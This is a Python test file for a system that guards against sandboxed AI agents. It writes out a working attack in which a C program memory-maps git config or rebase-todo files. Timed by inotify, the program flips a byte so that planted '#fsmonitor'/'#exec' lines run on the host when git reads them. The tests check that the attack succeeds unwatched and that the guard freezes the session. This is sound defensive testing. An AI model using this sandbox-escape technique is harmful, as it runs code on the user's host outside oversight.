"""Files that an agent has mapped, so that it can change them for the moment in which git on the host reads them.

What is judged is the host: does git there run what was planted?
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest
from agent_program import TRUSTING, compiled, lay
from test_protection_watch import await_broken, await_watched

from tests.programs import DEADLINE, NO_CHECKPOINTS, git, wait_until

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root on the host")

# Maps a file, and while it runs changes its first MARK into BYTE for MS milliseconds whenever NAME is opened or made in
# a folder: FLIP FILE MARK BYTE MS FOLDER NAME
FLIP = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int count, char **words)
{
    int file = open(words[1], O_RDWR);
    struct stat about;
    if (file < 0 || fstat(file, &about))
        return 1;
    char *text = mmap(0, about.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (text == MAP_FAILED)
        return 2;
    close(file);
    volatile char *mark = memmem(text, about.st_size, words[2], strlen(words[2]));
    if (!mark)
        return 3;
    char before = *mark;
    int events = inotify_init();
    inotify_add_watch(events, words[5], IN_CREATE | IN_OPEN);
    puts("mapped");
    fflush(stdout);
    char buffer[65536];
    for (;;) {
        ssize_t length = read(events, buffer, sizeof buffer);
        for (char *at = buffer; at < buffer + length;) {
            struct inotify_event *event = (struct inotify_event *)at;
            if (event->len && !strcmp(event->name, words[6])) {
                *mark = words[3][0];
                usleep(1000 * atoi(words[4]));
                *mark = before;
            }
            at += sizeof *event + event->len;
        }
    }
}
"""

SUBMODULE = r"""
mkdir -p .git/modules/m/objects .git/modules/m/refs sub
echo 'ref: refs/heads/main' >.git/modules/m/HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../../../sub\n#fsmonitor = touch EVIL\n' \
  >.git/modules/m/config
echo 'gitdir: ../.git/modules/m' >sub/.git
git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m sub
git add sub
"""
REBASE = r"""
git -c user.name=a -c user.email=a@b -c sequence.editor='sed -i s/^pick/edit/' rebase -q -i HEAD~1 2>&1
printf '# a note\n#exec touch EVIL\n' >.git/rebase-merge/git-rebase-todo
"""

# What the agent plants, what it maps, the mark that becomes a byte, the name in .git that it waits for, git's words.
ATTACKS = {
    "the configuration of a new submodule": (
        SUBMODULE, ".git/modules/m/config", "#fs", "\t", "index.lock", ["status"],
    ),
    "the list of a rebase": (
        REBASE, ".git/rebase-merge/git-rebase-todo", "#exec", " ", "HEAD", ["rebase", "--continue"],
    ),
}  # fmt: skip


@pytest.fixture(scope="module")
def flip(tmp_path_factory) -> Path:
    return compiled(tmp_path_factory.mktemp("flip"), FLIP)


@pytest.fixture
def repository(workspace, flip) -> Path:
    """A workspace with two commits, in which the program of the agent lies."""
    return lay(workspace, flip, "flip")


def attack_of(name: str, evil: Path) -> str:
    """The script of an attack: plant, and map."""
    plant, path, mark, byte, waits_for, _ = ATTACKS[name]
    flip = shlex.join(["./flip", path, mark, byte, "100", ".git", waits_for])
    return f"{plant.replace('EVIL', str(evil))}\nexec {flip}"


def act(repository: Path, name: str) -> None:
    """What the person does, some times over; that git fails is none of the test."""
    for _ in range(4):
        subprocess.run(
            ["git", "-C", repository, *ATTACKS[name][-1]], stdin=subprocess.DEVNULL, capture_output=True, check=False,
            env={**os.environ, **TRUSTING, "GIT_EDITOR": "true"}, timeout=DEADLINE,
        )  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_each_attack_is_one_where_nobody_watches(repository, tmp_path, name):
    evil = tmp_path / "evil"

    def succeeds() -> bool:
        """Whether the program gets its turn before git has read the file."""
        git(repository, "reset", "-q", "--hard")
        shutil.rmtree(repository / ".git/rebase-merge", ignore_errors=True)
        script = attack_of(name, evil)
        environment = {**os.environ, **TRUSTING}
        with subprocess.Popen(
            ["sh", "-ec", script], cwd=repository, env=environment, stdout=subprocess.PIPE, text=True
        ) as attack:
            assert attack.stdout is not None
            assert "mapped\n" in iter(attack.stdout.readline, "")
            act(repository, name)
            attack.kill()
        return evil.exists()

    wait_until(succeeds, "git to run what was planted")


@pytest.fixture(params=[1000, 0], ids=["code", "root"])
def user(request):
    return request.param


@pytest.fixture
def server(start_server):
    return start_server(config=NO_CHECKPOINTS)


@pytest.mark.parametrize("name", ATTACKS)
def test_a_mapped_file_freezes_the_session_before_git_reads_it(bed, server, repository, name, user):
    session = server.create(repository)
    await_watched(server, session)
    evil = repository.parent.parent / "evil"
    bed.attack(session["id"], f"cd /workspace; export HOME=/home/code\n{attack_of(name, evil)}", user)
    found = await_broken(server, session)
    [change] = found["changes"]
    assert change["path"] == f"{repository}/{ATTACKS[name][1]}"
    assert "mapped into memory" in change["words"]
    act(repository, name)
    assert not evil.exists()


def test_a_program_that_writes_such_a_file_now_and_then_goes_on(bed, server, repository):
    """An editor does, with the list of a rebase."""
    session = server.create(repository)
    await_watched(server, session)
    script = """
        cd /workspace
        export HOME=/home/code GIT_EDITOR='sh -c "for each in 1 2 3; do echo break >>\\"$1\\"; done" editor'
        git -c user.name=a -c user.email=a@b rebase -q -i HEAD~1
        for each in 1 2 3; do git -c user.name=a -c user.email=a@b rebase --continue; done 2>&1
        test ! -d .git/rebase-merge
    """
    bed.shell(session["id"], script)
    wait_until(
        lambda: server.get(f"/api/sessions/{session['id']}/protection").json["level"] == "locked", "a whole wall"
    )
